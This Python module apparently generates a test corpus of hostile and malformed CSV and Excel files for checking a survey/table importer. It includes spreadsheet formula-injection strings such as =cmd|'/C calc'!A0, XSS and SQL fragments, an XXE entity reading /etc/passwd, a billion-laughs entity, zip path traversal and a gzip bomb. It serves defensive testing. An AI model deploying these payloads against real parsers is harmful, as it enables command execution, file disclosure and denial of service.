"""Hostile and messy files, each with what must come of it. Run `python -m tests.hostile.corpus DIR` to write them."""

from __future__ import annotations

import csv
import gzip
import io
import re
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl

Rows = list[list[str]]
CANARY = "canary-7f3a@example.org"  # stands in free text; no message may repeat it
EVIL = (
    '=HYPERLINK("http://example.org/?"&A1)',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1|x",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "$x^2$ and $_$",
    "{{7*7}} ${7*7}",
    "'; DROP TABLE",
    "\u202egnp.exe",
    "line one\nline two",
)


@dataclass(frozen=True)
class Case:
    """A file, how it is read, and what must come of it: the clean table (perhaps with a note), or a fault."""

    name: str
    kind: str
    data: bytes
    suffix: str = ".csv"
    faulty: bool = False
    says: str = ""  # a pattern that a note or the fault must match
    team: str = ""  # what the answers must hold in place of team Green


@dataclass(frozen=True)
class Kind:
    """A table people hand over: its clean rows, and which columns hold a number, a name and an id."""

    rows: Rows
    number: int
    name: int
    id: int


def _answers() -> Rows:
    labels = ("Strongly disagree", "Disagree", "Neither agree nor disagree", "Agree", "Strongly agree")
    rows = [["code", "team", "Builds are fast", "Hours lost to builds", "What else?"]]
    for k in range(24):
        rows.append(
            [f"k{k:03d}", ("Red", "Green", "Blue")[k % 3], labels[(k * k) % 5], str(k % 7), f"{CANARY} said {k}"]
        )
    return rows


KINDS = {
    "answers": Kind(_answers(), number=3, name=1, id=0),
    "roster": Kind(
        [
            ["team", "site", "headcount"],
            ["Red", "North", "12"],
            ["Green", "North", "9"],
            ["Blue", "South", "14"],
            ["Red", "South", "7"],
        ],
        number=2,
        name=0,
        id=1,
    ),
    "costs": Kind(
        [
            ["vendor", "line", "timing", "likely", "what"],
            ["Acme", "seats", "yearly", "12000", "a"],
            ["Acme", "roll-out", "once", "5000", "b"],
            ["Bolt", "seats", "yearly", "9000", "c"],
        ],
        number=3,
        name=1,
        id=1,
    ),
    "deployments": Kind(
        [["deployment", "service", "time", "note"]]
        + [[f"d{k}", ("shop", "till")[k % 2], f"2026-0{1 + k % 6}-{10 + k}T10:00Z", f"n{k}"] for k in range(12)],
        number=2,
        name=1,
        id=0,
    ),
}


def text_of(rows: Rows, separator: str = ",", end: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
    stream = io.StringIO()
    csv.writer(stream, delimiter=separator, lineterminator=end, quoting=quoting).writerows(rows)
    return stream.getvalue()


def put(rows: Rows, i: int, j: int, text: str) -> Rows:
    """The rows with another cell."""
    rows = [list(row) for row in rows]
    rows[i][j] = text
    return rows


def each_cell(rows: Rows, change: Callable[[str], str], first: int = 1) -> Rows:
    return [list(row) if i < first else [change(cell) for cell in row] for i, row in enumerate(rows)]


def _dresses(rows: Rows) -> Iterator[tuple[str, bytes]]:
    """The clean table in other clothes: bytes that must be read as if nothing were the matter."""
    plain = text_of(rows)
    yield "plain", plain.encode()
    yield "byte order mark", plain.encode("utf-8-sig")
    yield "utf-16 little", plain.encode("utf-16")
    yield "utf-16 big", b"\xfe\xff" + plain.encode("utf-16-be")
    yield "utf-16 without mark", plain.encode("utf-16-le")
    yield "semicolons", text_of(rows, ";").encode()
    yield "tabs", text_of(rows, "\t").encode()
    yield "pipes", text_of(rows, "|").encode()
    yield "sep line", ("sep=;\n" + text_of(rows, ";")).encode()
    yield "crlf", text_of(rows, end="\r\n").encode()
    yield "cr", text_of(rows, end="\r").encode()
    yield "all quoted", text_of(rows, quoting=csv.QUOTE_ALL).encode()
    yield "no last newline", plain.rstrip("\n").encode()
    yield "blank lines", plain.replace("\n", "\n\n").encode()
    yield "leading blank lines", ("\n\n" + plain).encode()
    yield "rows of separators", (plain + "," * (len(rows[0]) - 1) + "\n").encode()
    yield "trailing separator", "".join(f"{line},\n" for line in plain.splitlines()).encode()
    yield "comment above", ("# made by hand, 2026\n" + plain).encode()
    yield "ctrl-z", plain.encode() + b"\x1a"
    yield "trailing zeros", plain.encode() + b"\x00" * 16
    yield "gzip", gzip.compress(plain.encode())
    yield "padded", text_of([[f"  {cell} " for cell in row] for row in rows]).encode()
    yield "padded with hard spaces", text_of([[f"\u00a0{cell}\u00a0" for cell in row] for row in rows]).encode()
    yield "header in capitals", text_of([[cell.upper() for cell in rows[0]], *rows[1:]]).encode()
    yield "zero-width marks", text_of([["\ufeff" + cell for cell in rows[0]], *rows[1:]]).encode()
    yield "a column without name or cells", text_of([[*row, ""] for row in rows]).encode()


def _broken(kind: str, at: Kind) -> Iterator[tuple[str, bytes, str]]:
    """Files that must be refused, with what the message says."""
    rows, width = at.rows, len(at.rows[0])
    plain = text_of(rows)
    last = len(rows) - 1
    yield "empty", b"", "empty"
    yield "nothing but spaces", b"\n \n\t\n", "empty"
    if kind != "deployments":  # nothing was deployed yet
        yield "header alone", (text_of(rows[:1])).encode(), "row 1"
    yield "a row one cell longer", (plain.rstrip("\n") + ",extra\n").encode(), f"row {last + 1}"
    yield "a row cut short", (plain + ",".join(rows[1][:-2]) + "\n").encode(), f"row {last + 2}"
    yield "an unclosed quote", (plain + '"open,' + "," * (width - 2) + "\n").encode(), f"row {last + 2}"
    yield "a zero byte inside", plain.replace(rows[2][0], rows[2][0] + "\x00", 1).encode(), "NUL"
    yield "utf-32", plain.encode("utf-32"), "UTF-32"
    if kind != "answers":  # where columns that nobody asked for are left out with a note
        yield (
            "column twice",
            text_of([[*row, row[at.number]] for row in rows]).encode(),
            f"column {width + 1}.*{rows[0][at.number]}",
        )
        yield (
            "a column without name",
            text_of([[*row, "x" if i else ""] for i, row in enumerate(rows)]).encode(),
            f"column {width + 1}",
        )
    yield "header repeated", text_of([*rows[:3], rows[0], *rows[3:]]).encode(), "row 4"
    yield "totals", text_of([*rows, ["Total", *[""] * (width - 2), "99"]]).encode(), f"row {last + 2}"
    if kind != "roster":  # without headcount it is a list of people, which a note says
        short = [[cell for j, cell in enumerate(row) if j != at.number] for row in rows]
        yield "a column is missing", text_of(short).encode(), ""
    yield "a word where a number belongs", text_of(put(rows, 2, at.number, "plenty")).encode(), "row 3"
    yield "a formula where a number belongs", text_of(put(rows, 2, at.number, "=1+1")).encode(), "row 3"
    yield "gzip cut short", gzip.compress(plain.encode())[:-12], "gzip"
    if kind == "answers":
        yield "gzip bomb", _gzip_bomb(), "a row does not end"
    yield "a picture", b"\x89PNG\r\n\x1a\n" + bytes(64), "picture"
    yield "a pdf", b"%PDF-1.7\n" + bytes(64), "PDF"
    yield "an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "xlsx"
    yield "a web page", f"<!DOCTYPE html><table><tr><td>{CANARY}</td></tr></table>".encode(), "web page"
    of_deployments = r"table\.csv: the table of deployments needs a column 'deployment'"  # which may be JSON
    yield "json", b'[{"team": "Red", "n": 1}]', of_deployments if kind == "deployments" else "JSON"
    yield "a broken zip", b"PK\x03\x04" + bytes(range(256)), "workbook"
    yield "noise", bytes((k * 97 + 13) % 251 + 1 for k in range(4000)), ""


def _gzip_bomb() -> bytes:
    stream = io.BytesIO()
    with gzip.GzipFile(fileobj=stream, mode="wb", compresslevel=9) as packed:
        for _ in range(320):
            packed.write(bytes(2**20).replace(b"\x00", b"a"))
    return stream.getvalue()


def _numbers(kind: str, at: Kind) -> Iterator[tuple[str, bytes, str]]:
    """Numbers that a person may mean and a program may not guess."""
    for text in (
        "1,234",
        "1.234,50",
        "(100)",
        "12%",
        "EUR 1,234",
        "1e400",
        "inf",
        "nan",
        "0x10",
        "12 000",
        "1/2",
        "²",
        "--5",
        "1e",
    ):
        yield f"the number {text}", text_of(put(at.rows, 2, at.number, text)).encode(), "row 3"
    yield "a number below zero", text_of(put(at.rows, 2, at.number, "-4")).encode(), ""


def cases() -> Iterator[Case]:
    """All files, one after the other."""
    for kind, at in KINDS.items():
        for name, data in _dresses(at.rows):
            yield Case(name, kind, data)
        for name, data, says in _broken(kind, at):
            yield Case(name, kind, data, faulty=True, says=says)
        yield from _workbooks(kind, at)
    for kind in ("answers", "roster"):
        for name, data, says in _numbers(kind, KINDS[kind]):
            yield Case(name, kind, data, faulty=True, says=says)
    for name, data, says in _numbers("costs", KINDS["costs"]):
        if "below zero" not in name:
            yield Case(name, "costs", data, faulty=True, says=says)
    for text in (
        "31/01/2026",
        "01.02.2026",
        "45678",
        "yesterday",
        "2026-13-01",
        "2026-02-30",
        "2026-01-01T25:00Z",
        "10:30",
        "2026",
        "<b>2026-01-01</b>",
    ):
        rows = put(KINDS["deployments"].rows, 2, 2, text)
        yield Case(f"the time {text}", "deployments", text_of(rows).encode(), faulty=True, says="row 3")
    yield from _answers_alone()


def _answers_alone() -> Iterator[Case]:
    """What happens to answers only; the clean answers hold what is set aside too."""
    rows = KINDS["answers"].rows
    yield Case(
        "labels in other letters",
        "answers",
        text_of(
            each_cell(rows, lambda c: c if "k0" in c else c.upper() if " agree" in c or "isagree" in c else c)
        ).encode(),
    )
    again = text_of([[*row, row[3]] for row in rows]).encode()
    yield Case("column twice, the same content", "answers", again, says="same content.*column 4")
    other = text_of([[*row, row[3] if i == 0 else "9"] for i, row in enumerate(rows)]).encode()
    yield Case("column twice, other content", "answers", other, faulty=True, says="column 6")
    nameless = text_of([[*row, "x" if i else ""] for i, row in enumerate(rows)]).encode()
    yield Case("a column without name", "answers", nameless, says="without a name.*column 6")
    numbered = text_of([[str(i) if i else "", *row] for i, row in enumerate(rows)]).encode()
    yield Case("row numbers in front", "answers", numbered, says="row numbers.*column 1")
    yield Case(
        "labels with two spaces", "answers", text_of(each_cell(rows, lambda c: c.replace("y a", "y  a"))).encode()
    )
    yield Case(
        "codes for labels",
        "answers",
        text_of([rows[0], *([*r[:2], str(1 + (k * k) % 5), *r[3:]] for k, r in enumerate(rows[1:]))]).encode(),
    )
    yield Case("a label that is none", "answers", text_of(put(rows, 2, 2, "Agre")).encode(), faulty=True, says="Agree")
    yield Case("a code out of scale", "answers", text_of(put(rows, 2, 2, "6")).encode(), faulty=True, says="")
    yield Case("half a code", "answers", text_of(put(rows, 2, 2, "3.5")).encode(), faulty=True, says="")
    yield Case("an empty row at the end", "answers", text_of([*rows, [""] * 5]).encode())
    yield Case("an id with nothing else", "answers", text_of([*rows, ["k900", "", "", "", ""]]).encode(), says="blank")
    yield Case("an id twice, the same answers", "answers", text_of([*rows, rows[1]]).encode(), says="id")
    yield Case("a team without a name", "answers", text_of(put(rows, 2, 1, "")).encode(), team="one not stated")
    for team in ("NA", "None", "nan", "null", "N/A", "007", "1E5", "TRUE", "-", "#N/A"):
        renamed = each_cell(rows, lambda c, team=team: team if c == "Green" else c)
        yield Case(f"a team called {team}", "answers", text_of(renamed).encode(), team=team)
    for k, text in enumerate(EVIL):
        yield Case(f"evil remark {k}", "answers", text_of(put(rows, 2, 4, text)).encode())
        if "\n" not in text and "\u202e" not in text:
            evil = each_cell(rows, lambda c, text=text: text if c == "Green" else c)
            yield Case(f"evil team {k}", "answers", text_of(evil).encode(), team=text)
    yield Case("a remark of a megabyte", "answers", text_of(put(rows, 2, 4, "long " * 200_000)).encode())
    yield Case("windows letters", "answers", text_of(put(rows, 2, 4, "Zürich")).encode("cp1252"), says="Windows-1252")
    yield Case(
        "ten thousand columns",
        "answers",
        text_of(
            [[*row, *([f"x{j}" for j in range(10_000)] if i == 0 else [""] * 10_000)] for i, row in enumerate(rows)]
        ).encode(),
        says="not used|not in the codebook|ignored",
    )


def book(rows: Rows, change: Callable | None = None, number: int | None = None, title: str = "Sheet1") -> bytes:
    """The rows as a workbook, numbers as numbers; `change` may do harm to it."""
    made = openpyxl.Workbook()
    sheet = made.active
    sheet.title = title
    for i, row in enumerate(rows):
        for j, text in enumerate(row):
            cell = sheet.cell(i + 1, j + 1)
            if i and j == number and re.fullmatch(r"\d+", text):
                cell.value = int(text)
            elif text:
                cell.value = text
                cell.data_type = "s"
    if change:
        change(made, sheet)
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def repacked(data: bytes, change: Callable[[dict[str, bytes]], None], twice: str = "") -> bytes:
    """A workbook whose parts were changed by hand."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        if twice:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                archive.writestr(twice, parts[twice])
    return stream.getvalue()


_SHEET = "xl/worksheets/sheet1.xml"


def _workbooks(kind: str, at: Kind) -> Iterator[Case]:
    rows, number, suffix = at.rows, at.number, ".xlsx"
    title = "costs" if kind == "costs" else "Sheet1"
    plain = book(rows, None, number, title)
    top = len(rows) + 1

    def changed(name, change, *, faulty=False, says=""):
        return Case(name, kind, book(rows, change, number, title), suffix, faulty, says)

    def by_hand(name, change, *, faulty=False, says="", twice=""):
        return Case(name, kind, repacked(plain, change, twice), suffix, faulty, says)

    def swap(old: bytes, new: bytes, part: str = _SHEET):
        def change(parts):
            assert old in parts[part], old
            parts[part] = parts[part].replace(old, new, 1)

        return change

    def cell(i, j, value):
        def change(made, sheet):
            sheet.cell(i, j + 1).value = value

        return change

    yield Case("workbook", kind, plain, suffix)
    yield Case("workbook called csv", kind, plain, ".csv")
    if kind != "costs":  # a dossier is a folder of files or a workbook
        yield Case("csv called workbook", kind, text_of(rows).encode(), suffix)
    yield Case("numbers as text", kind, book(rows, title=title), suffix)
    yield changed("hidden sheet", lambda b, s: setattr(b.create_sheet("old"), "sheet_state", "hidden"))
    yield changed("empty second sheet", lambda b, s: b.create_sheet("Sheet2"))
    yield changed("styled empty cells", lambda b, s: setattr(s.cell(top + 40, 2), "style", "Good"))
    yield changed(
        "notes beside in a sheet of their own", lambda b, s: b.create_sheet("read me", 0).append(["Please read"])
    )
    yield changed("a hidden row", lambda b, s: setattr(s.row_dimensions[3], "hidden", True), says="hidden")
    yield changed("an error cell", cell(3, number, "#DIV/0!"), faulty=True, says="#DIV/0!")
    yield changed("#N/A", cell(3, number, "#N/A"), faulty=True, says="#N/A")
    yield changed("a formula without a value", cell(3, number, "=1+2"), faulty=True, says=f"{chr(65 + number)}3")
    yield changed(
        "merged cells",
        lambda b, s: s.merge_cells(start_row=2, end_row=4, start_column=at.name + 1, end_column=at.name + 1),
        faulty=True,
        says="merged",
    )
    yield changed("a lone far cell", lambda b, s: s.cell(1_048_576, 16_384, "x"), faulty=True, says="XFD1048576")
    yield changed(
        "a header below a title", lambda b, s: s.insert_rows(1, 2) or s.cell(1, 1, "Report 2026"), faulty=True
    )
    totals = ["Total", *[None] * (len(rows[0]) - 2), 99]
    yield changed("totals in a workbook", lambda b, s: s.append(totals), faulty=True, says=f"row {top}")
    yield changed("a link on a cell", lambda b, s: setattr(s.cell(2, 1), "hyperlink", "http://example.org/x"))
    yield changed(
        "a comment on a cell", lambda b, s: setattr(s.cell(2, 1), "comment", openpyxl.comments.Comment(CANARY, "me"))
    )
    yield changed(
        "a list to choose from",
        lambda b, s: s.add_data_validation(
            openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1='"a,b"')
        ),
    )
    if kind != "deployments":
        yield changed("a yes where a number belongs", cell(3, number, True), faulty=True)
        yield by_hand(
            "a formula with its value",
            swap(
                b"<v>5000</v>" if kind == "costs" else b"<v>9</v>" if kind == "roster" else b"<v>1</v>",
                b"<f>2+3</f><v>5000</v>"
                if kind == "costs"
                else b"<f>4+5</f><v>9</v>"
                if kind == "roster"
                else b"<f>0+1</f><v>1</v>",
            ),
        )
    yield by_hand("a dimension of a million rows", _dimension)
    yield by_hand("a member twice", lambda parts: None, twice=_SHEET, faulty=True, says="spreadsheet program")
    for name, entity in (("an entity", b'e SYSTEM "file:///etc/passwd"'), ("laughs", b'a "ha"><!ENTITY b "&a;&a;"')):
        declared = b"<!DOCTYPE x [<!ENTITY " + entity + b">]><worksheet"
        yield by_hand(name, swap(b"<worksheet", declared), faulty=True, says="entities")
    yield by_hand(
        "a sheet that swells",
        lambda parts: parts.update(
            {_SHEET: parts[_SHEET].replace(b"</sheetData>", b"</sheetData>" + b" " * (60 * 2**20))}
        ),
        faulty=True,
        says="CSV",
    )
    yield by_hand("a sheet cut short", lambda parts: parts.update({_SHEET: parts[_SHEET][:-300]}), faulty=True)
    yield by_hand("no sheet", lambda parts: parts.pop(_SHEET), faulty=True)
    yield by_hand("no workbook part", lambda parts: parts.pop("xl/workbook.xml"), faulty=True, says="zip archive")
    yield by_hand(
        "a shared text that is not there",
        swap(b't="inlineStr"><is><t>' + rows[1][0].encode() + b"</t></is>", b't="s"><v>99999</v>'),
        faulty=True,
    )
    yield by_hand("macros", lambda parts: parts.update({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), says="macros")
    yield by_hand(
        "links to other files",
        lambda parts: parts.update(
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
            }
        ),
        says="links",
    )
    yield by_hand("a path out of the archive", lambda parts: parts.update({"../../evil.txt": b"x"}))
    endless = b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield by_hand("merged without end", swap(b"</sheetData>", endless), faulty=True, says="merged")
    for k in range(7):
        start = 100 + k * (len(plain) - 1000) // 7
        torn = plain[:start] + plain[start + 778 :]
        yield Case(f"bytes missing in the middle {k}", kind, torn, suffix, True)
    yield Case("a workbook cut short", kind, plain[: len(plain) // 2], suffix, True, "broken")
    yield Case("a zip of a csv", kind, _zip({"table.csv": text_of(rows).encode()}), ".zip", True, "zip archive")
    yield Case("a binary workbook", kind, _zip({"xl/workbook.bin": b"x"}), ".xlsb", True, "xlsb")
    yield Case("an open document", kind, _zip({"mimetype": b"application/vnd.oasis"}), ".ods", True, "OpenDocument")
    yield Case("a locked zip", kind, _locked(plain), suffix, True)


def _dimension(parts: dict[str, bytes]) -> None:
    parts[_SHEET] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[_SHEET])


def _zip(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _locked(data: bytes) -> bytes:
    """The flag of encryption set on every member."""
    made = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(signature)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(signature, at + 4)
    return bytes(made)


def write(folder: Path) -> list[tuple[Case, Path]]:
    """Every file in a folder of its own, beside what its kind needs."""
    written = []
    for number, case in enumerate(cases()):
        place = folder / f"{number:03d}"
        place.mkdir(parents=True)
        name = "costs" if case.kind == "costs" and case.suffix == ".csv" else "table"
        path = place / f"{name}{case.suffix}"
        path.write_bytes(case.data)
        written.append((case, path))
    return written


if __name__ == "__main__":
    print(len(write(Path(sys.argv[1]))), "files written")
